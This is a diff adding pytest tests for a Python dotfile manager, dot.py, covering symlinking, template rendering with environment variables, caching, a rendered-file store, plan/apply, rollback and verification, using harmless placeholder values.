@@ -1,6 +1,10 @@
+import json
+import os
 import sys
 from contextlib import redirect_stderr
 from io import StringIO
+from pathlib import Path
+from string import Template
 
 import pytest
 from conftest import set_env
@@ -8,7 +12,7 @@ from conftest import set_env
 # Workaround in WSL to drop paths with bin causing circular dependency
 sys.path = [p for p in sys.path if not p.endswith("bin")]
 
-from dot import dot  # noqa
+from dot import dot, formatter, get_logger  # noqa
 
 
 @pytest.mark.parametrize("command", ["link", "unlink"])
@@ -22,11 +26,11 @@ def test_system_exit(root, command, home_folder, dry_run, caplog):
         dot(command=command, home=str(home), profiles=[str(profile)], recursive=1, dry_run=dry_run, verbose=0)
 
     assert len(caplog.records) == 2  # TODO may wish to also show profile warnings
-    assert caplog.records[0].msg.startswith("\x1b[33;20m")
-    assert caplog.records[0].msg.endswith("\x1b[0m")
+    assert formatter.format(caplog.records[0]).startswith("\x1b[33;20m")
+    assert formatter.format(caplog.records[0]).endswith("\x1b[0m")
     assert caplog.records[0].levelname == "WARNING"
-    assert caplog.records[1].msg.startswith("\x1b[31;20m")
-    assert caplog.records[1].msg.endswith("\x1b[0m")
+    assert formatter.format(caplog.records[1]).startswith("\x1b[31;20m")
+    assert formatter.format(caplog.records[1]).endswith("\x1b[0m")
     assert caplog.records[1].levelname == "ERROR"
     assert home.is_dir() != (home_folder != "home")
     assert not profile.is_dir()
@@ -176,3 +180,890 @@ def test_link_template_folder(root):
     dot(command="link", home=str(home), profiles=[str(profile)], recursive=1, dry_run=False, verbose=0)
     assert not (profile / "folder.rendered").exists()
     assert (home / ".folder.template").is_symlink()
+
+
+@pytest.mark.parametrize(
+    "recursive,linked", [(1, []), (2, ["env"]), (3, ["env", "sub/env"]), (0, ["env", "sub/env", "sub/deep/env"])]
+)
+def test_link_template_depth(root, recursive, linked):
+    home = root / "home"
+    profile = root / "default"
+    folder = profile / "folder"
+    for name in ["env", "sub/env", "sub/deep/env"]:
+        candidate = folder / (name + ".template")
+        candidate.parent.mkdir(parents=True, exist_ok=True)
+        with open(candidate, "w") as fp:
+            fp.write("set -o vi")
+
+    dot(command="link", home=str(home), profiles=[str(profile)], recursive=recursive, dry_run=False, verbose=0)
+    for name in ["env", "sub/env", "sub/deep/env"]:
+        assert (folder / name).is_symlink() == (name in linked)
+        assert (folder / (name + ".rendered")).is_file() == (name in linked)
+
+
+def test_render_cache(root):
+    home = root / "home"
+    profile = root / "default"
+    candidate = profile / "env.template"
+    rendered = profile / "env.rendered"
+
+    candidate.parent.mkdir(parents=True)
+    with open(candidate, "w") as fp:
+        fp.write("export APP_SECRET_KEY=$APP_SECRET_KEY")
+
+    with set_env(APP_SECRET_KEY="abc123", UNRELATED="1"):
+        dot(command="link", home=str(home), profiles=[str(profile)], recursive=1, dry_run=False, verbose=0)
+        mtime = rendered.stat().st_mtime_ns
+        os.utime(rendered, ns=(mtime - 10**9, mtime - 10**9))
+        mtime = rendered.stat().st_mtime_ns
+
+    with set_env(APP_SECRET_KEY="abc123", UNRELATED="2"):
+        dot(command="link", home=str(home), profiles=[str(profile)], recursive=1, dry_run=False, verbose=0)
+        assert rendered.stat().st_mtime_ns == mtime
+
+    with set_env(APP_SECRET_KEY="def456"):
+        dot(command="link", home=str(home), profiles=[str(profile)], recursive=1, dry_run=False, verbose=0)
+        assert rendered.stat().st_mtime_ns != mtime
+
+    with open(home / ".env", "r") as fp:
+        assert fp.read() == "export APP_SECRET_KEY=def456"
+
+
+@pytest.mark.parametrize("max_template", [0, 1 << 20])
+def test_render_lines(root, max_template, monkeypatch):
+    from dot import TemplateCache
+
+    monkeypatch.setattr(TemplateCache, "MAX_TEMPLATE", max_template)
+    home = root / "home"
+    profile = root / "default"
+    candidate = profile / "hosts.template"
+    rendered = profile / "hosts.rendered"
+
+    content = "".join(f"host$HOST_INDEX-{i} ${{HOST_DOMAIN}} $$HOST $\n" for i in range(1000)) + "$UNSET"
+    candidate.parent.mkdir(parents=True)
+    with open(candidate, "w") as fp:
+        fp.write(content)
+
+    with set_env(HOST_INDEX="1", HOST_DOMAIN="example.com"):
+        dot(command="link", home=str(home), profiles=[str(profile)], recursive=1, dry_run=False, verbose=0)
+        with open(rendered, "r") as fp:
+            assert fp.read() == Template(content).safe_substitute(os.environ)
+
+    rendered.chmod(0o600)
+    with set_env(HOST_INDEX="2", HOST_DOMAIN="example.com"):
+        dot(command="link", home=str(home), profiles=[str(profile)], recursive=1, dry_run=False, verbose=0)
+    assert rendered.stat().st_mode & 0o777 == 0o600
+    assert sorted(path.name for path in profile.iterdir()) == ["hosts.rendered", "hosts.template"]
+
+
+def test_template_cache(root, monkeypatch):
+    from dot import TemplateCache
+
+    profile = root / "default"
+    profile.mkdir()
+    content = "a $A ${B} $$C $ $D\n$"
+    templates = TemplateCache(root / "templates")
+    assert templates.compile(content) == ["a ", ["A", "$A"], " ", ["B", "${B}"], " $C $ ", ["D", "$D"], "\n$"]
+    assert templates.substitute(templates.compile(content), {"A": "1"}) == Template(content).safe_substitute(A="1")
+
+    for name in ["a", "b", "c"]:
+        with open(profile / name, "w") as fp:
+            fp.write(content)
+        assert templates.segments(profile / name, "1:1") == templates.compile(content)
+    with open(profile / "a", "w") as fp:
+        fp.write("changed $A")
+    # NOTE compiled form is reused until size or mtime of the template changes
+    assert templates.segments(profile / "a", "1:1") == templates.compile(content)
+    assert templates.segments(profile / "a", "1:2") == templates.compile("changed $A")
+
+    # NOTE least recently used are evicted first
+    cached = {json.loads(path.read_text())["template"]: path for path in (root / "templates").iterdir()}
+    os.utime(cached[str(profile / "b")], ns=(0, 0))
+    size = sum(path.stat().st_size for path in cached.values())
+    monkeypatch.setattr(TemplateCache, "MAX_CACHE", size - cached[str(profile / "b")].stat().st_size)
+    templates.evict()
+    assert sorted(path.name for path in (root / "templates").iterdir()) == sorted(
+        cached[str(profile / name)].name for name in ["a", "c"]
+    )
+
+    # NOTE templates compiled in memory are also evicted least recently used first
+    monkeypatch.setattr(TemplateCache, "compiled", TemplateCache.compiled.__class__())
+    monkeypatch.setattr(TemplateCache, "MAX_COMPILED", 2)
+    for name in ["b", "c", "b", "a"]:
+        templates.segments(profile / name, "1:3")
+    assert list(TemplateCache.compiled) == [(str(profile / name), "1:3") for name in ["b", "a"]]
+
+
+def test_unlink_orphan_from_manifest(root):
+    home = root / "home"
+    profile = root / "default"
+    candidate = profile / "bashrc"
+
+    candidate.parent.mkdir(parents=True)
+    with open(candidate, "w") as fp:
+        fp.write("set -o vi")
+
+    dot(command="link", home=str(home), profiles=[str(profile)], recursive=1, dry_run=False, verbose=0)
+    assert (home / ".bashrc").is_symlink()
+
+    # NOTE source removed from profile leaves a dangling link behind
+    candidate.unlink()
+    dot(command="unlink", home=str(home), profiles=[str(profile)], recursive=1, dry_run=False, verbose=0)
+    assert not (home / ".bashrc").is_symlink()
+
+
+def test_status_prune(root, capsys):
+    home = root / "home"
+    profile = root / "default"
+    for name in ["bashrc", "vimrc", "inputrc"]:
+        candidate = profile / name
+        candidate.parent.mkdir(parents=True, exist_ok=True)
+        with open(candidate, "w") as fp:
+            fp.write("set -o vi")
+
+    dot(command="link", home=str(home), profiles=[str(profile)], recursive=1, dry_run=False, verbose=0)
+    (profile / "vimrc").unlink()
+    (home / ".inputrc").unlink()
+    capsys.readouterr()
+
+    dot(command="status", home=str(home), profiles=[], recursive=1, dry_run=False, verbose=0, prune=True)
+    captured = capsys.readouterr().out.splitlines()
+    assert captured == [
+        f"linked {home / '.bashrc'} -> {profile / 'bashrc'}",
+        f"missing {home / '.inputrc'} -> {profile / 'inputrc'}",
+        f"dangling {home / '.vimrc'} -> {profile / 'vimrc'}",
+    ]
+    assert not (home / ".vimrc").is_symlink()
+
+    dot(command="status", home=str(home), profiles=[], recursive=1, dry_run=False, verbose=0)
+    captured = capsys.readouterr().out.splitlines()
+    assert captured == [f"linked {home / '.bashrc'} -> {profile / 'bashrc'}"]
+
+
+def test_snapshot_calls(root, caplog):
+    home = root / "home"
+    profile = root / "default"
+    for name in ["bashrc", "vimrc", "inputrc"]:
+        candidate = profile / name
+        candidate.parent.mkdir(parents=True, exist_ok=True)
+        with open(candidate, "w") as fp:
+            fp.write("set -o vi")
+
+    dot(command="link", home=str(home), profiles=[str(profile)], recursive=1, dry_run=False, verbose=2)
+    assert "Filesystem calls: {'scandir': 1}" in caplog.text
+    caplog.clear()
+
+    dot(command="link", home=str(home), profiles=[str(profile)], recursive=1, dry_run=False, verbose=2)
+    assert "Filesystem calls: {'readlink': 3, 'scandir': 1}" in caplog.text
+
+
+def test_link_missing_rendered(root):
+    home = root / "home"
+    profile = root / "default"
+    candidate = profile / "env.template"
+    rendered = profile / "env.rendered"
+
+    candidate.parent.mkdir(parents=True)
+    with open(candidate, "w") as fp:
+        fp.write("export APP_SECRET_KEY=$APP_SECRET_KEY")
+
+    dot(command="link", home=str(home), profiles=[str(profile)], recursive=1, dry_run=False, verbose=0)
+    rendered.unlink()
+    assert not (home / ".env").exists()
+
+    dot(command="link", home=str(home), profiles=[str(profile)], recursive=1, dry_run=False, verbose=0)
+    assert rendered.is_file()
+    assert (home / ".env").exists()
+
+
+@pytest.mark.parametrize("jobs", [1, 4])
+def test_link_unlink_jobs(root, jobs):
+    home = root / "home"
+    profile = root / "default"
+    names = [f"env{i}" for i in range(20)]
+    for name in names:
+        candidate = profile / "folder" / (name + ".template")
+        candidate.parent.mkdir(parents=True, exist_ok=True)
+        with open(candidate, "w") as fp:
+            fp.write(f"export NAME={name}")
+
+    dot(command="link", home=str(home), profiles=[str(profile)], recursive=2, dry_run=False, verbose=0, jobs=jobs)
+    for name in names:
+        with open(home / ".folder" / name, "r") as fp:
+            assert fp.read() == f"export NAME={name}"
+
+    dot(command="unlink", home=str(home), profiles=[str(profile)], recursive=2, dry_run=False, verbose=0, jobs=jobs)
+    assert not (home / ".folder").is_symlink()
+
+
+def test_execute_errors(root):
+    from dot import Render, Symlink, Unlink, execute
+
+    profile = root / "default"
+    profile.mkdir()
+    queue = [
+        Render(profile / "env.template", profile / "env.rendered", "", "", "", "0:0"),
+        Symlink(root / "home" / ".env", profile / "env.rendered", str(profile), "template"),
+        Unlink(root / "home" / ".bashrc", profile / "bashrc"),
+    ]
+    errors = execute(queue, jobs=2)
+    assert isinstance(errors[0], FileNotFoundError)
+    assert str(errors[1]) == f"Skipped since {profile / 'env.rendered'} was not rendered"
+    assert isinstance(errors[2], FileNotFoundError)
+    assert not (root / "home" / ".env").is_symlink()
+
+
+def test_link_dedupe(root):
+    home = root / "home"
+    profile = root / "default"
+    candidate = profile / "env.template"
+
+    candidate.parent.mkdir(parents=True)
+    with open(candidate, "w") as fp:
+        fp.write("export APP_SECRET_KEY=$APP_SECRET_KEY")
+
+    dot(command="link", home=str(home), profiles=[str(profile), str(profile)], recursive=1, dry_run=False, verbose=0)
+    assert (home / ".env").is_symlink()
+
+
+def test_plan_apply(root):
+    from dot import apply_plan
+
+    home = root / "home"
+    profile = root / "default"
+    candidate = profile / "env.template"
+    plan = root / "plan.json"
+
+    candidate.parent.mkdir(parents=True)
+    with open(candidate, "w") as fp:
+        fp.write("export APP_SECRET_KEY=$APP_SECRET_KEY")
+
+    with set_env(APP_SECRET_KEY="abc123"):
+        dot(command="link", home=str(home), profiles=[str(profile)], recursive=1, dry_run=False, verbose=0, output=plan)
+        assert not (profile / "env.rendered").exists()
+        assert not (home / ".env").is_symlink()
+
+        apply_plan(plan=str(plan), dry_run=True, verbose=0)
+        assert not (home / ".env").is_symlink()
+
+        apply_plan(plan=str(plan), dry_run=False, verbose=0)
+        assert (home / ".env").is_symlink()
+        with open(home / ".env", "r") as fp:
+            assert fp.read() == "export APP_SECRET_KEY=abc123"
+
+    # NOTE preconditions no longer hold once applied
+    with pytest.raises(SystemExit):
+        apply_plan(plan=str(plan), dry_run=False, verbose=0)
+
+    dot(command="unlink", home=str(home), profiles=[str(profile)], recursive=1, dry_run=False, verbose=0, output=plan)
+    apply_plan(plan=str(plan), dry_run=False, verbose=0)
+    assert not (home / ".env").is_symlink()
+
+
+@pytest.mark.parametrize("watcher", ["PollingWatcher", "InotifyWatcher"])
+def test_watcher(root, watcher):
+    import dot as module
+
+    if watcher == "InotifyWatcher" and not sys.platform.startswith("linux"):
+        pytest.skip("inotify not available")
+
+    profile = root / "default"
+    (profile / "folder").mkdir(parents=True)
+    watcher = getattr(module, watcher)([profile])
+    try:
+        assert watcher.changes(0.01) == set()
+        with open(profile / "folder" / "env.template", "w") as fp:
+            fp.write("export APP_SECRET_KEY=$APP_SECRET_KEY")
+        assert profile / "folder" / "env.template" in watcher.changes(0.01)
+    finally:
+        watcher.close()
+
+
+def test_relink(root):
+    from dot import relink, watch
+
+    home = root / "home"
+    profile = root / "default"
+    profile.mkdir()
+    for name in ["bashrc", "vimrc"]:
+        with open(profile / name, "w") as fp:
+            fp.write("set -o vi")
+
+    watch(home=str(home), profiles=[str(profile)], recursive=1, dry_run=False, verbose=0, iterations=0)
+    assert (home / ".bashrc").is_symlink()
+
+    with open(profile / "inputrc", "w") as fp:
+        fp.write("set editing-mode vi")
+    (profile / "vimrc").unlink()
+    # NOTE a manual link next to one handled by dot.py is left alone
+    (home / ".bashrc").unlink()
+    (home / ".bashrc").symlink_to(profile / "vimrc")
+
+    changed = {profile / "inputrc", profile / "vimrc"}
+    relink(str(home), [str(profile)], changed, recursive=1, dry_run=False, verbose=0)
+    assert (home / ".inputrc").is_symlink()
+    assert not (home / ".vimrc").is_symlink()
+    assert (home / ".bashrc").readlink() == profile / "vimrc"
+
+
+def test_changed_vars_deps(root, capsys):
+    from dot import deps
+
+    home = root / "home"
+    profile = root / "default"
+    profile.mkdir()
+    for name, content in [("env", "export KEY=$KEY"), ("gitconfig", "name = ${NAME}"), ("both", "$KEY $NAME $$")]:
+        with open(profile / (name + ".template"), "w") as fp:
+            fp.write(content)
+
+    with set_env(KEY="abc", NAME="me"):
+        dot(command="link", home=str(home), profiles=[str(profile)], recursive=1, dry_run=False, verbose=0)
+
+    deps(profiles=[str(profile)], verbose=0)
+    assert capsys.readouterr().out.splitlines() == [
+        f"KEY: {profile / 'both.template'} {profile / 'env.template'}",
+        f"NAME: {profile / 'both.template'} {profile / 'gitconfig.template'}",
+    ]
+
+    with set_env(KEY="def", NAME="you"):
+        # NOTE templates not depending on given variables are trusted to be up to date
+        dot(
+            command="link",
+            home=str(home),
+            profiles=[str(profile)],
+            recursive=1,
+            dry_run=False,
+            verbose=0,
+            changed_vars="KEY",
+        )
+    with open(home / ".env", "r") as fp:
+        assert fp.read() == "export KEY=def"
+    with open(home / ".gitconfig", "r") as fp:
+        assert fp.read() == "name = me"
+    with open(home / ".both", "r") as fp:
+        assert fp.read() == "def you $"
+
+    with set_env(KEY="def", NAME="you"):
+        dot(command="link", home=str(home), profiles=[str(profile)], recursive=1, dry_run=False, verbose=0)
+    with open(home / ".gitconfig", "r") as fp:
+        assert fp.read() == "name = you"
+
+
+def test_link_unlink_homes(root):
+    profile = root / "default"
+    candidate = profile / "folder" / "env.template"
+    homes = [root / f"home{i}" for i in range(4)]
+    for home in homes:
+        home.mkdir()
+    # NOTE a conflict in one home does not stop the others
+    (homes[0] / ".folder").touch()
+    with open(root / "homes.txt", "w") as fp:
+        fp.write("\n".join(str(home) for home in homes[2:]))
+
+    candidate.parent.mkdir(parents=True)
+    with open(candidate, "w") as fp:
+        fp.write("export APP_SECRET_KEY=$APP_SECRET_KEY")
+
+    with set_env(APP_SECRET_KEY="abc123"):
+        with pytest.raises(SystemExit):
+            dot(
+                command="link",
+                home=[str(homes[0]), str(homes[1]), f"@{root / 'homes.txt'}"],
+                profiles=[str(profile)],
+                recursive=2,
+                dry_run=False,
+                verbose=0,
+                jobs=2,
+            )
+    for home in homes[1:]:
+        with open(home / ".folder" / "env", "r") as fp:
+            assert fp.read() == "export APP_SECRET_KEY=abc123"
+    assert not (homes[0] / ".folder" / "env").exists()
+
+    dot(
+        command="unlink",
+        home=[str(h) for h in homes[2:]],
+        profiles=[str(profile)],
+        recursive=2,
+        dry_run=False,
+        verbose=0,
+    )
+    assert (homes[1] / ".folder").is_symlink()
+    assert not any((home / ".folder").is_symlink() for home in homes[2:])
+
+
+def test_stats(root, capsys):
+    home = root / "home"
+    profile = root / "default"
+    candidate = profile / "folder" / "env.template"
+
+    candidate.parent.mkdir(parents=True)
+    with open(candidate, "w") as fp:
+        fp.write("export APP_SECRET_KEY=$APP_SECRET_KEY")
+
+    reports = []
+    dot(
+        command="link",
+        home=str(home),
+        profiles=[str(profile)],
+        recursive=2,
+        dry_run=False,
+        verbose=0,
+        stats=reports.append,
+    )
+    assert set(reports[0]["phases"]) == {"plan", "scan", "render", "check", "execute"}
+    assert reports[0]["calls"] == {"read": 1, "render": 1, "scandir": 4, "stat": 3, "symlink": 2}
+    assert reports[0]["templates"] == {"written": 1, "skipped": 0}
+
+    dot(command="link", home=str(home), profiles=[str(profile)], recursive=2, dry_run=False, verbose=0, stats="json")
+    report = json.loads(capsys.readouterr().out)
+    assert report["calls"] == {"readlink": 2, "scandir": 4, "stat": 3}
+    assert report["templates"] == {"written": 0, "skipped": 1}
+
+
+def test_stats_files_recursive(root):
+    home = root / "home"
+    profile = root / "default"
+    profile.mkdir()
+    for index in range(5):
+        (profile / f"file{index}").touch()
+
+    reports = []
+    for recursive in [1, 2]:
+        kwargs = {"home": str(home), "profiles": [str(profile)], "dry_run": False, "verbose": 0}
+        dot(command="link", recursive=recursive, stats=reports.append, **kwargs)
+    # NOTE files are not listed as if they were folders holding templates
+    assert reports[1]["calls"]["scandir"] == reports[0]["calls"]["scandir"] == 2
+    assert reports[1]["calls"]["stat"] == 1
+
+
+def test_log_format_json(root):
+    home = root / "home"
+    profile = root / "default"
+    dotfile = profile / "bashrc"
+
+    profile.mkdir()
+    dotfile.touch()
+
+    handler = next(handler for handler in get_logger().handlers if handler.get_name() == "dot.py")
+    stream = handler.setStream(StringIO())
+    try:
+        dot(
+            command="link",
+            home=str(home),
+            profiles=[str(profile)],
+            recursive=1,
+            dry_run=False,
+            verbose=1,
+            log_format="json",
+        )
+    finally:
+        lines = handler.setStream(stream).getvalue().splitlines()
+    records = [json.loads(line) for line in lines]
+    record = next(record for record in records if record.get("op") == "link")
+    assert record["level"] == "info"
+    assert record["status"] == "created"
+    assert record["dotfile"] == str(home / ".bashrc")
+    assert record["target"] == str(dotfile)
+    assert "\x1b[" not in record["message"]
+
+
+@pytest.mark.parametrize("rescan", [False, True])
+def test_scan_index(root, rescan):
+    home = root / "home"
+    profile = root / "default"
+    folder = profile / "folder"
+    candidate = folder / "env.template"
+
+    folder.mkdir(parents=True)
+    with open(candidate, "w") as fp:
+        fp.write("export APP_SECRET_KEY=$APP_SECRET_KEY")
+    # NOTE listings of folders changed in the last second are not indexed
+    for path in [folder, profile]:
+        os.utime(path, ns=(0, 0))
+
+    kwargs = {"command": "link", "home": str(home), "profiles": [str(profile)], "recursive": 2, "dry_run": False}
+    reports = []
+    dot(verbose=0, stats=reports.append, **kwargs)
+    # NOTE rendering changes mtime of folder
+    os.utime(folder, ns=(0, 0))
+    dot(verbose=0, stats=reports.append, rescan=rescan, **kwargs)
+    # NOTE home and folder are listed by the snapshot, profile and folder by the scan
+    assert reports[1]["calls"]["scandir"] == 2 + 2 * rescan
+    assert (home / ".folder").is_symlink()
+
+    (folder / "new.template").touch()
+    (profile / "new").touch()
+    dot(verbose=0, stats=reports.append, **kwargs)
+    # NOTE the scan lists profile and folder again as they changed
+    assert reports[2]["calls"]["scandir"] == 2 + 2
+    assert (folder / "new.rendered").is_file()
+    assert (home / ".new").is_symlink()
+
+    # NOTE index is only written when it changed, and never by dry runs
+    index = Path(os.environ["XDG_CACHE_HOME"]) / "dot.py" / "scan.json"
+    for path in [folder, profile]:
+        os.utime(path, ns=(0, 0))
+    dot(verbose=0, **kwargs)
+    os.utime(index, ns=(0, 0))
+    dot(verbose=0, **kwargs)
+    assert index.stat().st_mtime_ns == 0
+    (profile / "other").touch()
+    os.utime(profile, ns=(1, 1))
+    dot(verbose=0, **{**kwargs, "dry_run": True})
+    assert index.stat().st_mtime_ns == 0
+
+
+@pytest.mark.parametrize("together", [False, True])
+def test_fold_unfold(root, together):
+    home = root / "home"
+    profiles = [root / "default", root / "work"]
+    for profile, name in zip(profiles, ["a", "b"]):
+        (profile / "config" / "nvim").mkdir(parents=True)
+        (profile / "config" / name).touch()
+        (profile / "config" / "nvim" / name).touch()
+    with open(profiles[1] / "config" / "env.template", "w") as fp:
+        fp.write("export APP_SECRET_KEY=$APP_SECRET_KEY")
+
+    kwargs = {"home": str(home), "recursive": 2, "dry_run": False, "verbose": 0, "jobs": 2}
+    with set_env(APP_SECRET_KEY="abc123"):
+        if together:
+            dot(command="link", profiles=[str(profile) for profile in profiles], **kwargs)
+        else:
+            # NOTE link of first profile is replaced by a folder when the second profile is linked
+            dot(command="link", profiles=[str(profiles[0])], **kwargs)
+            assert (home / ".config").resolve() == profiles[0] / "config"
+            dot(command="link", profiles=[str(profiles[1])], **kwargs)
+    config = home / ".config"
+    assert config.is_dir() and not config.is_symlink()
+    assert (config / "nvim").is_dir() and not (config / "nvim").is_symlink()
+    assert (config / "a").readlink() == profiles[0] / "config" / "a"
+    assert (config / "nvim" / "b").readlink() == profiles[1] / "config" / "nvim" / "b"
+    with open(config / "env", "r") as fp:
+        assert fp.read() == "export APP_SECRET_KEY=abc123"
+
+    # NOTE unlinking the second profile folds links of the first one back into one link
+    dot(command="unlink", profiles=[str(profiles[1])], **kwargs)
+    assert config.readlink() == profiles[0] / "config"
+    dot(command="unlink", profiles=[str(profiles[0])], **kwargs)
+    assert not list(home.iterdir())
+
+
+def test_unfold_existing_folder(root):
+    home = root / "home"
+    profile = root / "default"
+    (profile / "config").mkdir(parents=True)
+    (profile / "config" / "git").touch()
+    (home / ".config").mkdir()
+    (home / ".config" / "other").touch()
+
+    kwargs = {"home": str(home), "profiles": [str(profile)], "recursive": 1, "dry_run": False, "verbose": 0}
+    dot(command="link", **kwargs)
+    assert (home / ".config" / "git").readlink() == profile / "config" / "git"
+
+    dot(command="unlink", **kwargs)
+    assert sorted(path.name for path in (home / ".config").iterdir()) == ["other"]
+
+
+@pytest.mark.parametrize("precedence", ["first", "last", "error"])
+def test_precedence(root, precedence):
+    home = root / "home"
+    profiles = [root / "default", root / "work"]
+    for profile in profiles:
+        (profile / "config").mkdir(parents=True)
+        (profile / "bashrc").touch()
+        (profile / "config" / "git").touch()
+
+    kwargs = {"home": str(home), "profiles": [str(profile) for profile in profiles], "recursive": 1, "verbose": 0}
+    if precedence == "error":
+        with pytest.raises(SystemExit):
+            dot(command="link", dry_run=False, precedence=precedence, **kwargs)
+        assert not list(home.iterdir())
+        return
+
+    dot(command="link", dry_run=False, precedence=precedence, **kwargs)
+    kept = profiles[0] if precedence == "first" else profiles[-1]
+    assert (home / ".bashrc").readlink() == kept / "bashrc"
+    # NOTE files of folders unfolded for several profiles follow the same precedence
+    assert (home / ".config" / "git").readlink() == kept / "config" / "git"
+
+
+@pytest.mark.parametrize("fail_fast", [False, True])
+def test_fail_fast(root, fail_fast, caplog):
+    home = root / "home"
+    profile = root / "default"
+    profile.mkdir()
+    for name in ["a.template", "b", "c.template", "d"]:
+        (profile / name).touch()
+    (home / ".b").touch()
+
+    with pytest.raises(SystemExit):
+        dot(
+            command="link",
+            home=str(home),
+            profiles=[str(profile)],
+            recursive=1,
+            dry_run=False,
+            verbose=1,
+            fail_fast=fail_fast,
+        )
+    messages = [record.getMessage() for record in caplog.records]
+    assert ("Error: Stopped at first conflict, 2 entries left unscanned." in messages) == fail_fast
+    # NOTE templates after the conflict are not read
+    assert sum("exists but is not a link" in message for message in messages) == 1
+    assert (str(profile / "c.rendered") in json.dumps(messages)) != fail_fast
+
+
+def test_planner(root):
+    from dot import Planner, Symlink
+
+    home = root / "home"
+    profile = root / "default"
+    profile.mkdir()
+    (profile / "bashrc").touch()
+    (profile / "vimrc").touch()
+    (home / ".vimrc").touch()
+
+    planner = Planner()
+    result = planner.plan("link", str(home), [str(profile)])
+    assert result.conflicted == {str(home): 0}
+    assert result.conflicts == [f"File {home / '.vimrc'} exists but is not a link"]
+
+    (home / ".vimrc").unlink()
+    result = planner.plan("link", str(home), [str(profile)])
+    assert not result.conflicts
+    assert [type(operation) for operation in result.operations] == [Symlink, Symlink]
+    result = planner.apply(result)
+    assert not result.errors
+    assert (home / ".bashrc").is_symlink()
+
+    # NOTE home and profile are not listed again while unchanged
+    for path in [home, profile]:
+        os.utime(path, ns=(0, 0))
+    planner.plan("link", str(home), [str(profile)])
+    result = planner.plan("link", str(home), [str(profile)])
+    assert not result.operations
+    assert "scandir" not in result.timings.calls
+
+
+def test_store(root):
+    from dot import gc
+
+    store = root / "store"
+    homes = [root / "home", root / "other"]
+    profiles = [root / "default", root / "copy"]
+    for profile in profiles:
+        (profile / "config").mkdir(parents=True)
+        (profile / "config" / "git").touch()
+        with open(profile / "bashrc.template", "w") as fp:
+            fp.write("export APP_SECRET_KEY=$APP_SECRET_KEY")
+        with open(profile / "config" / "env.template", "w") as fp:
+            fp.write("APP_HOME=$APP_HOME")
+    homes[1].mkdir()
+
+    kwargs = {"recursive": 2, "dry_run": False, "verbose": 0, "store": str(store)}
+    with set_env(APP_SECRET_KEY="abc123", APP_HOME="/app"):
+        for home, profile in zip(homes, profiles):
+            dot(command="link", home=str(home), profiles=[str(profile)], **kwargs)
+
+    # NOTE copies of a profile render into the same entries, without writing into profiles
+    entries = sorted((store / "objects").iterdir())
+    assert len(entries) == 2
+    assert all(path.stat().st_mode & 0o777 == 0o600 for path in entries)
+    assert not [path for profile in profiles for path in profile.rglob("*.rendered")]
+    for home, profile in zip(homes, profiles):
+        assert (home / ".bashrc").readlink() in entries
+        assert (home / ".config" / "env").readlink() in entries
+        assert (home / ".config" / "git").readlink() == profile / "config" / "git"
+    with open(homes[0] / ".bashrc", "r") as fp:
+        assert fp.read() == "export APP_SECRET_KEY=abc123"
+
+    for path in entries:
+        os.utime(path, (0, 0))
+    dot(command="unlink", home=str(homes[0]), profiles=[str(profiles[0])], **kwargs)
+    gc(store=str(store), dry_run=False, verbose=0)
+    assert sorted((store / "objects").iterdir()) == entries
+
+    dot(command="unlink", home=str(homes[1]), profiles=[str(profiles[1])], **kwargs)
+    gc(store=str(store), dry_run=True, verbose=0)
+    assert sorted((store / "objects").iterdir()) == entries
+    gc(store=str(store), dry_run=False, verbose=0)
+    assert not list((store / "objects").iterdir())
+    assert not list(homes[1].iterdir())
+
+
+@pytest.mark.parametrize("rollback", [False, True])
+def test_resume_rollback(root, rollback):
+    from dot import Manifest, Planner
+
+    home = root / "home"
+    profile = root / "default"
+    (profile / "config").mkdir(parents=True)
+    for name in ["bashrc", "vimrc", "config/git"]:
+        (profile / name).touch()
+    (home / ".config").mkdir()
+
+    # NOTE run fails on a file created between plan and apply
+    planner = Planner(keep=False)
+    result = planner.plan("link", str(home), [str(profile)])
+    (home / ".vimrc").touch()
+    result = planner.apply(result)
+    assert len(result.errors) == 1
+    assert (home / ".bashrc").is_symlink()
+
+    (home / ".vimrc").unlink()
+    kwargs = {"home": str(home), "profiles": [str(profile)], "recursive": 1, "dry_run": False, "verbose": 0}
+    dot(command="link", resume=not rollback, rollback=rollback, **kwargs)
+    links = Manifest(home).links
+    if rollback:
+        assert not (home / ".bashrc").is_symlink() and not (home / ".config" / "git").is_symlink()
+        assert not (home / ".vimrc").exists()
+        assert not links
+    else:
+        assert (home / ".vimrc").readlink() == profile / "vimrc"
+        assert sorted(links) == [str(home / name) for name in [".bashrc", ".config/git", ".vimrc"]]
+    assert not list(Manifest(home).path.parent.glob("journal-*"))
+
+    # NOTE nothing is left to resume
+    dot(command="link", resume=True, **kwargs)
+
+
+def test_verify(root, capsys):
+    from dot import verify
+
+    home = root / "home"
+    profile = root / "default"
+    profile.mkdir()
+    (profile / "vimrc").touch()
+    with open(profile / "bashrc.template", "w") as fp:
+        fp.write("export APP_SECRET_KEY=$APP_SECRET_KEY")
+
+    def code():
+        try:
+            verify(home=str(home), profiles=[], verbose=0)
+        except SystemExit as error:
+            return error.code
+        return 0
+
+    with set_env(APP_SECRET_KEY="abc123"):
+        dot(command="link", home=str(home), profiles=[str(profile)], recursive=1, dry_run=False, verbose=0)
+        assert code() == 0
+
+        # NOTE rendered file written again with the same content is not a drift
+        for content, expected in [("export APP_SECRET_KEY=other", 3), ("export APP_SECRET_KEY=abc123", 0)]:
+            with open(profile / "bashrc.rendered", "w") as fp:
+                fp.write(content)
+            assert code() == expected
+        capsys.readouterr()
+
+    assert code() == 3
+    assert capsys.readouterr().out == f"outdated {home / '.bashrc'} -> {profile / 'bashrc.rendered'}\n"
+
+    with set_env(APP_SECRET_KEY="abc123"):
+        (home / ".vimrc").unlink()
+        assert code() == 3
+        (home / ".vimrc").touch()
+        assert code() == 4
+
+
+def test_store_relink(root):
+    from dot import verify
+
+    home = root / "home"
+    profile = root / "default"
+    (profile / "config").mkdir(parents=True)
+    with open(profile / "bashrc.template", "w") as fp:
+        fp.write("export APP_SECRET_KEY=$APP_SECRET_KEY")
+    with open(profile / "config" / "env.template", "w") as fp:
+        fp.write("APP_SECRET_KEY=$APP_SECRET_KEY")
+
+    kwargs = {"home": str(home), "profiles": [str(profile)], "recursive": 2, "dry_run": False, "verbose": 0}
+    for value in ["abc123", "def456"]:
+        with set_env(APP_SECRET_KEY=value):
+            dot(command="link", store=str(root / "store"), **kwargs)
+            verify(home=str(home), profiles=[], verbose=0)
+        # NOTE links follow the entries of the values rotated to
+        for dotfile in [home / ".bashrc", home / ".config" / "env"]:
+            with open(dotfile, "r") as fp:
+                assert fp.read().endswith(f"APP_SECRET_KEY={value}")
+
+
